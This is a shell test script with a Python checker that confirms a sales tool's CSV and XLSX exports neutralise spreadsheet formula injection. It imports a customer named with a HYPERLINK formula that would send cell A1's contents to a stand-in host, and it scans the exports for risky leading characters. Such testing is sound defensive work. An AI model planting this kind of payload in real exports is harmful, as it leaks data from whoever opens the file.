# test-formula.sh — issue 15 §6: exports that cannot attack the person who
# opens them. A customer named =HYPERLINK("http://example.invalid/?"&A1,"x")
# (with a city, phone and e-mail that start with @, + and -) is imported
# into the sample company; then every csv and xlsx the command line writes —
# customers, report, plan, export (call lists, newsletter list),
# analyze, compare, uncontacted, route, orders, overrides — is read back:
# every text cell that starts with = + - @ TAB or CR has the leading
# apostrophe (plain numbers excepted), no xlsx cell is a formula, and the
# name is there, defused. (The dashboard's downloads: tests/web.)
. "$OLDPWD/tests/cli/lib.sh"
db=$T/w.db
"$FOKUS" sample --out s --customers 120 --sellers 3 --months 12 >/dev/null || fail "sample"
name='=HYPERLINK("http://example.invalid/?"&A1,"x")'
# One customer of S01's with hostile cells, orders (so that it is a key
# account: it is in the plan, the call lists, the report) and no contact.
{
	head -1 s/customers.csv
	printf '%s\n' "X1,\"=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",556000-0000,Storgatan 1,111 22,@Stockholm,59.33,18.06,-Handel,5,S01,900000,,-x@example.invalid,+46 8 123 45 67,,"
} > hostile.csv
tail -n +2 s/customers.csv >> hostile.csv
{
	head -1 s/orders.csv
	for m in 01 02 03 04 05 06 07 08 09; do echo "X1-$m,X1,2026-$m-15,250000.00,60000.00,S01"; done
} > xorders.csv
for k in sellers; do "$FOKUS" --db "$db" import $k s/$k.csv >/dev/null || fail "import $k"; done
"$FOKUS" --db "$db" import customers hostile.csv >/dev/null || fail "import hostile customers"
"$FOKUS" --db "$db" import orders s/orders.csv >/dev/null || fail "import orders"
"$FOKUS" --db "$db" import orders xorders.csv >/dev/null || fail "import X1's orders"
"$FOKUS" --db "$db" import activities s/activities.csv >/dev/null || fail "import activities"
mkdir out
"$FOKUS" --db "$db" categorize >/dev/null || fail "categorize"
"$FOKUS" --db "$db" override X1 1 --reason '=1+1 pinned' >/dev/null || fail "override"
"$FOKUS" --db "$db" customers --format csv > out/customers.csv || fail "customers"
"$FOKUS" --db "$db" overrides --format csv > out/overrides.csv || fail "overrides"
"$FOKUS" --db "$db" report --format csv > out/report.csv || fail "report csv"
"$FOKUS" --db "$db" report --format xlsx --out out/report.xlsx || fail "report xlsx"
"$FOKUS" --db "$db" plan --format csv > out/plan.csv || fail "plan csv"
"$FOKUS" --db "$db" plan --format xlsx --out out/plan.xlsx || fail "plan xlsx"
"$FOKUS" --db "$db" analyze --format csv > out/analyze.csv || fail "analyze csv"
"$FOKUS" --db "$db" analyze --format xlsx --out out/analyze.xlsx || fail "analyze xlsx"
"$FOKUS" --db "$db" compare --before 2025-11-01..2026-04-30 --after 2026-05-01..2026-10-31 \
	--format csv > out/compare.csv || fail "compare csv"
"$FOKUS" --db "$db" compare --before 2025-11-01..2026-04-30 --after 2026-05-01..2026-10-31 \
	--format xlsx --out out/compare.xlsx || fail "compare xlsx"
"$FOKUS" --db "$db" uncontacted --format csv > out/uncontacted.csv || fail "uncontacted"
"$FOKUS" --db "$db" route --seller S01 --from 2026-11-02 --days 5 --format csv > out/route.csv ||
	fail "route csv"
"$FOKUS" --db "$db" orders --customer X1 --out out/orders.csv || fail "orders"
"$FOKUS" --db "$db" export --out out/export --lang en >/dev/null 2>&1 || fail "export"
ls out/export/*.csv out/export/*.xlsx >/dev/null || fail "export wrote no csv/xlsx"

cat > check.py <<'EOF'
import csv, re, sys, zipfile, html
name = sys.argv[1]
NUMBER = re.compile(r'^[+-]?[0-9]+([.,][0-9]+)?%?$')
def risky(s):
    return s[:1] in ('=', '+', '-', '@', '\t', '\r') and not NUMBER.match(s)
bad, seen = [], {}
for path in sys.argv[2:]:
    cells = []
    if path.endswith('.csv'):
        with open(path, newline='', encoding='utf-8') as f:
            cells = [c for row in csv.reader(f) for c in row]
    else:
        z = zipfile.ZipFile(path)
        for part in z.namelist():
            if not part.endswith('.xml'):
                continue
            x = z.read(part).decode('utf-8')
            if part.startswith('xl/worksheets/') and ('<f>' in x or '<f ' in x):
                bad.append(f'{path}: {part} holds a formula')
            cells += [html.unescape(t) for t in re.findall(r'<t(?: [^>]*)?>([^<]*)</t>', x)]
    for c in cells:
        if risky(c):
            bad.append(f'{path}: {c!r}')
    seen[path] = "'" + name in cells
if bad:
    print('\n'.join(bad[:20]))
    sys.exit(1)
if len(sys.argv) == 3:
    sys.exit(0)  # one file: the rule only
for must in ('out/customers.csv', 'out/report.xlsx', 'out/plan.xlsx', 'out/plan.csv'):
    if not seen.get(must):
        print(f'{must}: the defused name is not there')
        sys.exit(1)
calls = [p for p in seen if '/export/calls-' in p and seen[p]]
if not any(p.endswith('.csv') for p in calls) or not any(p.endswith('.xlsx') for p in calls):
    print('no call list (csv and xlsx) holds the defused name:', sorted(seen))
    sys.exit(1)
print(len(seen), 'files checked', sorted(p for p in seen if seen[p]))
EOF
# The apostrophe is all that is added: the rest of the name is as imported.
grep -qF "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\"" out/customers.csv ||
	fail "the customers csv quotes the defused name"
/usr/bin/python3 check.py "$name" out/*.csv out/*.xlsx out/export/*.csv out/export/*.xlsx ||
	fail "formula check"
# The check itself refuses the hostile input file.
/usr/bin/python3 check.py "$name" hostile.csv >/dev/null && fail "the check let a formula pass"
exit 0
